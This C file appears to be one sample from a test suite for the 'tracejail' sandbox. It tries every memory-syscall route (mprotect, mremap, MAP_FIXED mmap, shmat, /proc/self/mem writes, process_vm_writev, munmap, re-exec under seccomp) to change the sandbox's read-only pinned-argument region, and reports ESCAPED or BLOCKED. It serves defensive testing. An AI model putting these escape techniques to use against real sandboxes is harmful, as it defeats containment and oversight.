/* tracejail-escape
 * id: pin-region
 * class: pointer-argument races
 * title: make the pinned-argument region writable, move, unmap or replace it
 * covered: standard
 * needs: nothing
 *
 * Technique: tracejail defeats argument races by copying each checked path or sockaddr into a
 * read-only region it maps in every tracee at [0x10000, 0x400000) and pointing the call at the
 * copy. Whoever can change that region wins the race again. The sample finds the region in
 * /proc/self/maps and tries every way to change it: mprotect and pkey_mprotect to writable,
 * madvise(MADV_DONTNEED), mremap away or onto it, mmap(MAP_FIXED) and shmat(SHM_REMAP) over it,
 * writes through /proc/self/mem and process_vm_writev, and munmap; each is judged by comparing
 * the mappings and bytes before and after. Last, a child stacks a seccomp filter that refuses
 * mmap in that range and execs itself: does the new image still get its region?
 * Defence: every memory call whose range starts below 0x400000 stops for the tracer and is
 * denied when it touches the region (pinned_region); /proc/PID/mem writes and process_vm_writev
 * are escape primitives. A region the tracer cannot map after exec must stop the process, not
 * leave it unpinned. Without tracejail there is no region, and nothing to escape from.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <stddef.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/shm.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define PIN_BASE 0x10000UL
#define PIN_END 0x400000UL
#define PAGE 4096UL

static unsigned long base = PIN_BASE, len = PAGE;
static int found;
static char *saved; /* the region's bytes before an attack */
static char summary[4096];
static int escaped;
static sigjmp_buf fault;

static void on_fault(int sig) { siglongjmp(fault, sig); }

/* Every mapping overlapping [PIN_BASE, PIN_END), as "start-end perms" joined by ", ". */
static void maps_in_range(char *out, size_t cap, int print) {
  out[0] = 0;
  FILE *f = fopen("/proc/self/maps", "r");
  if (!f) { snprintf(out, cap, "(maps: %s)", strerrorname_np(errno)); return; }
  char line[512];
  while (fgets(line, sizeof line, f)) {
    unsigned long s, e;
    char perms[8];
    if (sscanf(line, "%lx-%lx %7s", &s, &e, perms) != 3 || s >= PIN_END || e <= PIN_BASE) continue;
    if (print) printf("mapping in range: %s", line);
    size_t n = strlen(out);
    snprintf(out + n, cap - n, "%s%lx-%lx %s", n ? ", " : "", s, e, perms);
  }
  fclose(f);
}

/* Copies (or compares with the copy) the region's bytes; 0 if they could not be read. */
static int region_bytes(int compare, int *differs) {
  struct sigaction sa = {0}, old_segv, old_bus;
  sa.sa_handler = on_fault;
  sigaction(SIGSEGV, &sa, &old_segv);
  sigaction(SIGBUS, &sa, &old_bus);
  int ok = 0;
  if (sigsetjmp(fault, 1) == 0) {
    if (compare) *differs = memcmp(saved, (void *)base, len) != 0;
    else memcpy(saved, (void *)base, len);
    ok = 1;
  }
  sigaction(SIGSEGV, &old_segv, NULL);
  sigaction(SIGBUS, &old_bus, NULL);
  return ok;
}

/* One attack: did the call succeed, its errno, the mappings before it. A call that succeeded on
 * the region changed it, except madvise, which counts only when the bytes changed. */
static void report(const char *attack, int succeeded, int e, const char *before) {
  char after[1024];
  int differs = 0, readable = 0;
  if (found) readable = region_bytes(1, &differs); /* before anything else touches the region */
  maps_in_range(after, sizeof after, 0);
  int map_changed = strcmp(before, after) != 0;
  char line[2048];
  snprintf(line, sizeof line, "%s: %s", attack, succeeded ? "ok" : strerrorname_np(e));
  printf("%s", line);
  if (map_changed) printf(" [mapping changed: %s -> %s]", before[0] ? before : "none",
                          after[0] ? after : "none");
  if (found && (differs || !readable)) printf(" [content %s]", readable ? "changed" : "unreadable");
  printf("\n");
  size_t n = strlen(summary);
  snprintf(summary + n, sizeof summary - n, "%s%s", n ? "; " : "", line);
  int success_counts = strncmp(attack, "madvise", 7) != 0;
  if (found && (map_changed || differs || !readable || (succeeded && success_counts))) {
    escaped = 1;
    n = strlen(summary);
    snprintf(summary + n, sizeof summary - n, " (region CHANGED)");
  }
}

/* Takes the "before" picture: the mappings, then the bytes (nothing pinned in between). */
static void before(char *maps, size_t cap) {
  maps_in_range(maps, cap, 0);
  if (found) region_bytes(0, NULL);
}

/* Child: refuse mmap with an address in [PIN_BASE, PIN_END) (our own filter, no listener, so it
 * is allowed), then exec ourselves to look for the region in the new image. */
static void exec_probe(const char *self, char *out, size_t cap) {
  int p[2];
  out[0] = 0;
  if (pipe(p) != 0) return;
  fflush(stdout);
  pid_t pid = fork();
  if (pid == 0) {
    dup2(p[1], 1);
    close(p[0]);
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 1, 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_mmap, 1, 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0]) + 4),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 0, 1, 0), /* high half of addr */
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
        BPF_JUMP(BPF_JMP | BPF_JGE | BPF_K, PIN_END, 2, 0),
        BPF_JUMP(BPF_JMP | BPF_JGE | BPF_K, PIN_BASE, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof f / sizeof f[0], f};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0 ||
        prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog, 0, 0) != 0) {
      printf("stacking the filter -> %s\n", strerrorname_np(errno));
      fflush(stdout);
      _exit(0);
    }
    char *argv[] = {(char *)self, "--after-exec", NULL};
    execv(self, argv);
    printf("exec -> %s\n", strerrorname_np(errno));
    fflush(stdout);
    _exit(0);
  }
  close(p[1]);
  size_t n = 0;
  ssize_t r;
  while (pid > 0 && n < cap - 1 && (r = read(p[0], out + n, cap - 1 - n)) > 0) n += (size_t)r;
  out[n] = 0;
  close(p[0]);
  int st = 0;
  if (pid > 0) waitpid(pid, &st, 0);
  out[strcspn(out, "\n")] = 0;
  if (WIFSIGNALED(st)) {
    n = strlen(out);
    snprintf(out + n, cap - n, "%sthe process was killed by SIG%s", n ? "; " : "",
             sigabbrev_np(WTERMSIG(st)));
  }
}

int main(int argc, char **argv) {
  char first[1024], b[1024];
  if (argc > 1 && strcmp(argv[1], "--after-exec") == 0) {
    maps_in_range(first, sizeof first, 0);
    printf("region after exec: %s\n", first[0] ? first : "absent");
    return 0;
  }
  maps_in_range(first, sizeof first, 1);
  if (first[0]) {
    /* The first mapping in range, extended over the mappings that follow it without a gap. */
    unsigned long s, e, s2, e2;
    const char *q = first;
    sscanf(q, "%lx-%lx", &s, &e);
    while ((q = strstr(q, ", ")) && sscanf(q + 2, "%lx-%lx", &s2, &e2) == 2 && s2 == e) e = e2, q += 2;
    found = 1;
    base = s;
    len = e - s;
    printf("pinned region: 0x%lx-0x%lx (%lu KiB)\n", base, e, len / 1024);
  } else {
    printf("no pinned region found in [0x%lx, 0x%lx); attacking 0x%lx anyway\n", PIN_BASE,
           PIN_END, PIN_BASE);
  }
  saved = malloc(len);
  if (!saved) { printf("BLOCKED: out of memory\n"); return 0; }
  const char marker[] = "PIN-REGION-OVERWRITTEN";
  long r;
  int e;

  before(b, sizeof b);
  r = mprotect((void *)base, len, PROT_READ | PROT_WRITE);
  e = errno;
  report("mprotect(PROT_READ|PROT_WRITE)", r == 0, e, b);

  int pkey = (int)syscall(SYS_pkey_alloc, 0, 0);
  before(b, sizeof b);
  r = syscall(SYS_pkey_mprotect, base, len, PROT_READ | PROT_WRITE, pkey);
  e = errno;
  char label[128];
  snprintf(label, sizeof label, "pkey_mprotect(PROT_READ|PROT_WRITE, pkey %d)", pkey);
  report(label, r == 0, e, b);

  before(b, sizeof b);
  r = madvise((void *)base, len, MADV_DONTNEED);
  e = errno;
  report("madvise(MADV_DONTNEED)", r == 0, e, b);

  /* Move it away (to a reserved spot), and put it back if that worked. */
  void *away = mmap(NULL, len, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  before(b, sizeof b);
  void *moved = mremap((void *)base, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, away);
  e = errno;
  if (moved != MAP_FAILED) mremap(moved, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)base);
  report("mremap(region -> elsewhere, MREMAP_FIXED)", moved != MAP_FAILED, e, b);

  /* Move a page of ours onto its first page. */
  char *other = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (other != MAP_FAILED) memcpy(other, marker, sizeof marker);
  before(b, sizeof b);
  moved = mremap(other, PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)base);
  e = errno;
  report("mremap(our page -> region, MREMAP_FIXED)", moved != MAP_FAILED, e, b);

  before(b, sizeof b);
  void *m = mmap((void *)base, PAGE, PROT_READ | PROT_WRITE, MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS,
                 -1, 0);
  e = errno;
  report("mmap(MAP_FIXED) over its first page", m != MAP_FAILED, e, b);

  /* A range that starts below the region and runs into it. */
  before(b, sizeof b);
  m = mmap((void *)(base - 2 * PAGE), 3 * PAGE, PROT_READ | PROT_WRITE,
           MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  e = errno;
  report("mmap(MAP_FIXED) from 2 pages below into its first page", m != MAP_FAILED, e, b);

  int shmid = shmget(IPC_PRIVATE, PAGE, IPC_CREAT | 0600);
  if (shmid < 0) {
    printf("shmget: %s (shmat skipped)\n", strerrorname_np(errno));
  } else {
    before(b, sizeof b);
    void *s = shmat(shmid, (void *)base, SHM_REMAP);
    e = errno;
    shmctl(shmid, IPC_RMID, NULL);
    report("shmat(SHM_REMAP) onto its first page", s != (void *)-1, e, b);
  }

  int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  if (mem < 0) {
    e = errno;
    before(b, sizeof b);
    report("open(/proc/self/mem, O_RDWR)", 0, e, b);
  } else {
    before(b, sizeof b);
    r = pwrite(mem, marker, sizeof marker, (off_t)base);
    e = errno;
    report("pwrite(/proc/self/mem) at its address", r > 0, e, b);
    close(mem);
  }

  struct iovec local = {(void *)marker, sizeof marker}, remote = {(void *)base, sizeof marker};
  before(b, sizeof b);
  r = syscall(SYS_process_vm_writev, getpid(), &local, 1, &remote, 1, 0);
  e = errno;
  report("process_vm_writev(self) at its address", r > 0, e, b);

  /* Last, as it would leave nothing for the attacks above. */
  before(b, sizeof b);
  r = munmap((void *)base, len);
  e = errno;
  report("munmap(region)", r == 0, e, b);

  /* Does an exec under a filter that refuses mmap in the range still get a region? */
  char probe[1024];
  exec_probe("/proc/self/exe", probe, sizeof probe);
  printf("exec under a stacked filter refusing mmap in [0x%lx, 0x%lx): %s\n", PIN_BASE, PIN_END,
         probe[0] ? probe : "no report");
  if (found && strstr(probe, "region after exec: absent")) {
    escaped = 1;
    size_t n = strlen(summary);
    snprintf(summary + n, sizeof summary - n,
             "; exec under a filter refusing the region's mmap: process runs WITHOUT a region");
  }

  if (!found)
    printf("BLOCKED: no pinned region (not under a tracejail that pins arguments): nothing to "
           "escape from; the attacks on 0x%lx changed only our own memory\n", PIN_BASE);
  else
    printf("%s: %s\n", escaped ? "ESCAPED" : "BLOCKED", summary);
  return 0;
}
